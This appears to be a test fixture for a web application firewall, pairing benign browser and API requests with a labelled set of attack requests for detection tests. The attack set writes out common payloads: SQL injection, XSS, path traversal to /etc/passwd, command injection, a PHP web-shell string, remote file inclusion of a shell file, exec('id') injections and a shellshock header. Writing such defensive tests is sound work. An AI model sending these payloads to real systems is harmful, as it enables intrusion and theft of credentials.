// Requests shared by the cross-module tests: ordinary browser and API traffic, and attacks.
import type { WafRequest } from '../src/index.ts';

export const BROWSER_HEADERS: Array<[string, string]> = [
  ['Host', 'www.example.com'],
  ['User-Agent', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:126.0) Gecko/20100101 Firefox/126.0'],
  ['Accept', 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8'],
  ['Accept-Language', 'en-US,en;q=0.5'],
  ['Accept-Encoding', 'gzip, deflate, br'],
  ['Connection', 'keep-alive'],
  ['Upgrade-Insecure-Requests', '1'],
];

export function get(uri: string, extra: Array<[string, string]> = []): WafRequest {
  return {
    method: 'GET',
    uri,
    httpVersion: '1.1',
    headers: [...BROWSER_HEADERS, ...extra],
    remoteAddr: '198.51.100.4',
  };
}

export function post(
  uri: string,
  type: string,
  body: string,
  extra: Array<[string, string]> = [],
): WafRequest {
  const bytes = Buffer.from(body, 'utf8');
  return {
    method: 'POST',
    uri,
    httpVersion: '1.1',
    headers: [...BROWSER_HEADERS, ['Content-Type', type], ['Content-Length', String(bytes.length)], ...extra],
    remoteAddr: '198.51.100.4',
    body: bytes,
  };
}

export function multipartBody(
  boundary: string,
  parts: Array<{ name: string; value: string; filename?: string; type?: string }>,
): string {
  const lines: string[] = [];
  for (const p of parts) {
    lines.push(`--${boundary}`);
    lines.push(
      `Content-Disposition: form-data; name="${p.name}"${p.filename ? `; filename="${p.filename}"` : ''}`,
    );
    if (p.type) lines.push(`Content-Type: ${p.type}`);
    lines.push('', p.value);
  }
  lines.push(`--${boundary}--`, '');
  return lines.join('\r\n');
}

const COOKIE = [
  'Cookie',
  'sessionid=4b7c1d3a9f2e8b6c5d4e3f2a1b0c9d8e; csrftoken=aZ3kP9qLm2; _ga=GA1.1.1234567890.1717171717; ' +
    'theme=dark; locale=en_US; cart_items=2; __utma=111.222.333.444.555.6',
] as [string, string];

export const BENIGN: Record<string, WafRequest> = {
  'home page': get('/'),
  'static asset': get('/static/app.3f9c2b.js'),
  'search with cookies': get('/search?q=blue+running+shoes&sort=price_asc&page=2', [COOKIE]),
  'natural language query': get('/search?q=what%27s+the+best+way+to+cook+rice%3F', [COOKIE]),
  'API GET with bearer token': get('/api/v1/places?lat=51.5072&lng=-0.1276&radius=500&limit=20', [
    ['Authorization', 'Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJl'],
  ]),
  'login form': post(
    '/login',
    'application/x-www-form-urlencoded',
    'username=ada.lovelace&password=correct+horse+battery&remember=on',
    [COOKIE],
  ),
  'contact form': post(
    '/contact',
    'application/x-www-form-urlencoded',
    'name=Grace+Hopper&email=grace%40example.com&subject=Order+42&message=Hello%2C+my+order+arrived+damaged.+Could+you+send+a+replacement%3F+Thanks%21',
    [COOKIE],
  ),
  'JSON API create': post(
    '/api/v1/orders',
    'application/json',
    JSON.stringify({
      customer: { name: 'Ada Lovelace', email: 'ada@example.com' },
      items: [
        { sku: 'SKU-1', qty: 2 },
        { sku: 'SKU-7', qty: 1 },
      ],
      note: 'Leave at the door, please.',
    }),
  ),
  'JSON API with charset': post(
    '/api/v1/profile',
    'application/json; charset=utf-8',
    JSON.stringify({ displayName: 'Zoë', bio: 'Coffee, maps and long walks.', tags: ['travel', 'food'] }),
  ),
  'multipart upload': post(
    '/upload',
    'multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW',
    multipartBody('----WebKitFormBoundary7MA4YWxkTrZu0gW', [
      { name: 'title', value: 'Holiday photo' },
      { name: 'photo', value: 'JFIFDATA0123456789', filename: 'beach.jpg', type: 'image/jpeg' },
    ]),
  ),
  'XML API': post(
    '/api/soap',
    'text/xml',
    '<?xml version="1.0"?><order id="42"><item sku="A1">Shirt</item><qty>2</qty></order>',
  ),
};

export const ATTACKS: Record<string, WafRequest> = {
  'SQLi tautology': get("/item?id=1'%20or%20'1'%3D'1"),
  'SQLi union select': get('/item?id=-1%20UNION%20SELECT%20username,password%20FROM%20users--'),
  'SQLi in JSON body': post(
    '/api/login',
    'application/json',
    JSON.stringify({ user: "admin' --", pass: "x' OR 1=1 --" }),
  ),
  'XSS script tag': get('/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E'),
  'XSS event handler in form': post(
    '/comment',
    'application/x-www-form-urlencoded',
    'text=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E',
  ),
  'path traversal': get('/download?file=..%2F..%2F..%2Fetc%2Fpasswd'),
  'command injection': get('/ping?host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd'),
  'PHP injection': post(
    '/form',
    'application/x-www-form-urlencoded',
    'data=%3C%3Fphp+system(%24_GET%5Bcmd%5D)%3B+%3F%3E',
  ),
  'remote file inclusion': get('/page?include=http://203.0.113.9/shell.txt?'),
  'Java deserialization / RCE': get('/x?c=java.lang.Runtime.getRuntime().exec(%22id%22)'),
  'Node.js injection': post(
    '/eval',
    'application/x-www-form-urlencoded',
    "code=require('child_process').exec('id')",
  ),
  'shellshock header': get('/cgi-bin/status', [['X-Forwarded-For', '() { :; }; /bin/bash -c "id"']]),
  'scanner user agent': {
    ...get('/'),
    headers: [
      ['Host', 'www.example.com'],
      ['User-Agent', 'sqlmap/1.7.2#stable (https://sqlmap.org)'],
      ['Accept', '*/*'],
    ],
  },
  'session fixation': get('/login?PHPSESSID=abc123;jsessionid=xyz'),
  'XSS in cookie': get('/', [['Cookie', 'pref=%3Cscript%3Ealert(1)%3C/script%3E']]),
};
